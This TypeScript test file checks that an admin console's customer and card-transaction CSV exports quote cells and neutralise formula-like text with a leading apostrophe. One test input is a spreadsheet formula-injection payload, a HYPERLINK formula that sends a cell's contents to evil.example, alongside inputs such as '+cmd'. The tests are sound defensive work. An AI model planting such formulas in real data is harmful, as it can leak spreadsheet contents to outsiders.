import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startMock, type Mock } from './harness.ts';

/**
 * The console's CSV exports cannot carry a formula into a spreadsheet: cells are quoted as RFC 4180
 * says, and a text starting with = + - @, a tab or a return is written with a leading '.
 */
let mock: Mock;
let admin: string;
beforeAll(async () => {
  mock = await startMock();
  admin = await mock.staffToken();
});
afterAll(() => mock.close());

/** RFC 4180 rows of a CSV text (quoted cells with doubled quotes, line breaks inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') endCell();
    else if (c === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else cell += c;
  }
  row.push(cell);
  rows.push(row);
  return rows;
}

const FIRST = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
const LAST = '@SUM(1+1)';

describe('CSV exports', () => {
  it('customer.searchForExportCSV writes formula-like names as text, quoted', async () => {
    const patch = await mock.api('patch', '/api/rest/customers/11', { firstName: FIRST, lastName: LAST }, admin);
    expect(patch.status, JSON.stringify(patch.body)).toBe(200);
    const answer = await mock.api('post', '/api/customer/searchForExportCSV', { filter: { id: 11 } }, admin);
    expect(answer.status).toBe(200);
    const [head, row] = parseCsv(answer.body.data as string);
    expect(head).toEqual(['id', 'firstName', 'lastName', 'country', 'mobilePhone', 'emailAddress', 'status', 'createdAt']);
    expect(row!.slice(0, 3)).toEqual(['11', `'${FIRST}`, `'${LAST}`]);
  });

  it('card.searchCardTransactions/csv quotes its cells and writes formula-like text as text', async () => {
    const transaction = (mock.ctx.rows('cardTransactions') as { id: number; cardId: number }[])[0]!;
    const patch = await mock.api('patch', `/api/rest/cardTransactions/${transaction.id}`, { type: '-2+3,"x"', status: '+cmd' }, admin);
    expect(patch.status, JSON.stringify(patch.body)).toBe(200);
    const answer = await mock.api('post', '/api/card/searchCardTransactions/csv', { cardId: transaction.cardId }, admin);
    expect(answer.status).toBe(200);
    const rows = parseCsv(answer.body.data as string);
    const row = rows.find((r) => r[0] === String(transaction.id))!;
    expect(rows[0]!.length).toBe(9);
    expect(row.length).toBe(9);
    expect(row.slice(6, 8)).toEqual([`'-2+3,"x"`, "'+cmd"]);
  });
});
